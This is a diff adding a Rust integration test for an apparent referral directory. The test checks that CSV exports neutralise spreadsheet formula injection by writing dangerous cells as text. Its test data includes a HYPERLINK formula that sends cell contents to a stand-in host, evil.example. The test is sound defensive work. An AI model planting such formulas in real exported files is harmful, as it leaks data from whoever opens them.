@@ -821,3 +821,104 @@ async fn a_plan_refers_the_client_and_tracks_the_referral() {
     assert_eq!(json["referrals"][1]["organisation_id"], "ng-closed-shelter");
     assert_eq!(json["referrals"][1]["partners_only"], true);
 }
+
+/// Spreadsheet formula injection (issue #16): a correction whose cells
+/// begin with formula characters, accepted by an editor, is exported with
+/// each such cell written as text (a leading apostrophe), so that opening
+/// the file in a spreadsheet runs nothing; the file imports back
+/// unchanged, and the entry keeps exactly what was typed.
+#[tokio::test]
+async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back() {
+    let db = TestDb::sqlite();
+    let store = db.store().await;
+    let [_, _, ed] = add_users(
+        &store,
+        [
+            ("Shelter A", OrgKind::Counselling, Role::Admin, "ada"),
+            ("Shelter A", OrgKind::Counselling, Role::Counsellor, "carla"),
+            ("Shelter A", OrgKind::Counselling, Role::Supervisor, "ed"),
+        ],
+    )
+    .await;
+    store.close().await;
+    let s = Server::start(&db.url).await;
+    let ada = signed_in(&s, "ada").await;
+    let c = signed_in(&s, "carla").await;
+    let e = signed_in(&s, "ed").await;
+    call_ok::<()>(
+        &ada,
+        &s,
+        "/api/admin/set_directory_editor",
+        &[("user_id", &ed.id), ("editor", "true")],
+    )
+    .await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let before = entry(&c, &s, "nl-comensha").await;
+    assert_eq!(
+        save(
+            &c,
+            &s,
+            &form_of(
+                &before,
+                &[
+                    ("eligibility", formula),
+                    ("opening_hours", "@SUM(1+1)"),
+                    ("phone", "+31334481186"),
+                ]
+            )
+        )
+        .await,
+        EntrySaveResult::Suggested
+    );
+    let waiting: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
+    let version = entry(&e, &s, "nl-comensha").await.version.to_string();
+    call_ok::<()>(
+        &e,
+        &s,
+        "/api/directory/decide_suggestion",
+        &[
+            ("id", &waiting[0].id),
+            ("accept", "true"),
+            ("version", &version),
+        ],
+    )
+    .await;
+    let accepted = entry(&c, &s, "nl-comensha").await.entry;
+    assert_eq!(accepted.eligibility, formula, "kept as typed");
+
+    let csv = export(&ada, &s).await;
+    let row = csv
+        .lines()
+        .find(|l| l.starts_with("nl-comensha,"))
+        .expect("the entry's row");
+    let cells: Vec<String> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(row.as_bytes())
+        .records()
+        .next()
+        .unwrap()
+        .unwrap()
+        .iter()
+        .map(str::to_string)
+        .collect();
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?} in {row}"
+        );
+    }
+    assert!(cells.contains(&format!("'{formula}")), "{row}");
+    assert!(cells.contains(&"'@SUM(1+1)".to_string()), "{row}");
+    assert!(cells.contains(&"'+31334481186".to_string()), "{row}");
+    // Imported back: nothing changes.
+    let rows = csv.lines().count() - 1;
+    assert_eq!(
+        import(&ada, &s, &csv).await,
+        ImportResult::Imported {
+            created: 0,
+            updated: 0,
+            unchanged: rows
+        }
+    );
+    assert_eq!(entry(&c, &s, "nl-comensha").await.entry, accepted);
+}
